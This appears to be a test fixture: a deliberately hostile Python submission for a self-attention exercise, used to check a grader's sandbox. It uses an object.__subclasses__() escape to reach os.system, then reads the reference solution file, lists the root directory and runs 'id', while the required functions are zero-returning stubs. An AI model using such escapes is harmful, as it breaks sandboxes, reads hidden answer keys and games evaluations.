"""Hostile submission: walks object.__subclasses__() to reach os.system and the file system."""

import torch

system = None
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        system = cls.__init__.__globals__["system"]
        popen = cls.__init__.__globals__["popen"]
        listdir = cls.__init__.__globals__["listdir"]
if system is not None:
    print("system:", system("cat /work/main/reference/ex02_self_attention.py"))
    print("listdir /:", listdir("/"))
    try:
        print(popen("id").read())
    except Exception as exc:
        print("popen failed:", exc)


def scaled_dot_product_attention(q, k, v):
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
